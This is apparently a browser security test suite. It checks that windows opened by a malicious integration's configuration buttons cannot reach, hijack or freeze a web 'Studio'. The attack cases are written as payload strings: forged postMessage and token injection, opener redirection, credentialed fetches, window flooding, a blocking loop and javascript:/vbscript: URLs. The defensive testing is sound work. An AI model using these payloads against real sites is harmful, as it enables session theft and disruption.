import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';

import { attackStudio, type AttackedStudio, MARKING } from '../support/browser/attacked-studio.js';
import { createServingScript } from '../support/scripts.js';
import { openService, type TestService } from '../support/service.js';
import { sampleCases } from '../support/sizes.js';

interface Attack {
    code: string;
    reports?: RegExp;
}

const BLOCKED = /SecurityError|NotAllowedError|TypeError|null|undefined/i;

function attacksOf(own: string, trap: string): Record<string, Attack> {
    const opened = `const studio = open('${own}/'); while (!studio.closed) await new Promise((done) => setTimeout(done, 20));`;
    return {
        'reaching what opened it': { code: `return String(opener);`, reports: /^null$/ },
        'leading what opened it elsewhere': { code: `opener.location = '${trap}/gone';`, reports: BLOCKED },
        'posting forged messages': {
            code: `for (const to of [opener, parent, top]) to?.postMessage({ action: { action: 'forged' } }, '*');
                new BroadcastChannel('svc-int').postMessage({ token: 'stolen' });
                localStorage.setItem('svc-int.token', 'stolen');`,
        },
        'reading where it comes from': { code: `return JSON.stringify(document.referrer);`, reports: /^""$/ },
        'asking for the workspace as the Studio does': {
            code: `return (await fetch('${own}/_svc-int/workspace', { credentials: 'include' })).status;`,
            reports: BLOCKED,
        },
        'opening the Studio, and reading of it': {
            code: `${opened} return String(studio.document.body);`,
            reports: BLOCKED,
        },
        'opening the Studio, and counting what it shows': {
            code: `${opened} return String(studio.closed) + studio.length;`,
            reports: /^true0$/,
        },
        'opening the Studio, and giving it another token': {
            code: `${opened} studio.location = '${own}/#token=stolen'; studio.postMessage({ action: { action: 'x' } }, '*');`,
        },
        'opening very many windows': {
            code: `for (let at = 0; at < 30; at++) open('about:blank', 'many' + at);`,
        },
        'never ending, and never closing': {
            code: `onbeforeunload = (event) => event.preventDefault(); setInterval(() => { const end = Date.now() + 50; while (Date.now() < end); }, 60);`,
        },
        'going to a script': {
            code: `try { opener.eval(${JSON.stringify(MARKING)}) } catch { } open(${JSON.stringify(`javascript:${MARKING}`)}, '_self');`,
        },
    };
}

let service: TestService;
let studio: AttackedStudio;
let attacks: Record<string, Attack>;

const NAMES = Object.keys(attacksOf('', ''));

beforeAll(async () => {
    service = await openService();
    studio = await attackStudio(service);
    attacks = attacksOf(new URL(service.url).origin, studio.trap);
    const codes = Object.values(attacks).map(({ code }) => code);
    const buttons = NAMES.map((_, at) => [
        `attack${at}`,
        { type: 'button' as const, title: `Attack ${at}`, callback_url: `/${at}`, button_text: `Open ${at}` },
    ]);
    const scripts = ['javascript:top.hacked=1', 'JaVaScRiPt:top.hacked=1', 'data:text/html,x', 'vbscript:x'].map(
        (url, at) => [
            `script${at}`,
            { type: 'button' as const, title: `Script ${at}`, callback_url: url, button_text: `Script ${at}` },
        ],
    );
    await service.develop(
        'evil',
        createServingScript(`
            const codes = ${JSON.stringify(codes).replaceAll('</', '<\\/')};
            const at = Number(new URL(event.request.url).pathname.split('/').at(-1));
            // Sent to its end also where the page is left meanwhile.
            const page = "<body>A window<script>const report = (what) => fetch('${studio.trap}/report/" + at + "/' + encodeURIComponent(what), { mode: 'no-cors', keepalive: true });" +
                "(async () => {" + codes[at] + "\\n})().then((what) => report(what ?? 'nothing'), (error) => report(String(error)));" + "</scr" + "ipt>";
            return new Response(page, { headers: { 'content-type': 'text/html' } });`),
        { title: 'Evil', configurations: { account: { properties: Object.fromEntries([...buttons, ...scripts]) } } },
    );
    return async () => {
        await studio.close();
        await service.dispose();
    };
});

async function openWindow(at: number): Promise<Page> {
    const { page } = studio;
    await studio.show('#/evil/configuration/account');
    const opened = page.context().waitForEvent('page');
    await page.getByRole('link', { name: `Open ${at}`, exact: true }).click();
    return opened;
}

describe('A window opened by a configuration neither reaches the Studio nor blocks it, by', () => {
    it.each(sampleCases(NAMES))('%s', async (name) => {
        const at = NAMES.indexOf(name);
        const { reports = /^nothing$/ } = attacks[name] ?? {};
        studio.caught.length = 0;
        await openWindow(at);
        const reported = () =>
            studio.caught
                .filter((path) => path.startsWith(`/report/${at}/`))
                .map((path) => decodeURIComponent(path.split('/')[3] ?? ''));
        await expect.poll(reported).toEqual([expect.stringMatching(reports)]);
        expect(studio.caught.filter((path) => !path.startsWith(`/report/${at}/`))).toEqual([]);
        await studio.expectUnharmed((sign) => sign.startsWith('a window opened'));
        for (const other of studio.page.context().pages()) if (other !== studio.page) await other.close();
        await studio.page.reload();
        await studio.page.getByRole('navigation').first().waitFor();
        await studio.expectUnharmed();
    });

    it('a URL that is a script', async () => {
        await studio.show('#/evil/configuration/account');
        const { page } = studio;
        await page.getByText('Script 0', { exact: true }).last().waitFor();
        for (const at of [0, 1, 2, 3]) await page.getByText(`Script ${at}`, { exact: true }).last().click();
        await studio.expectUnharmed();
        expect(page.context().pages()).toHaveLength(1);
    });
});
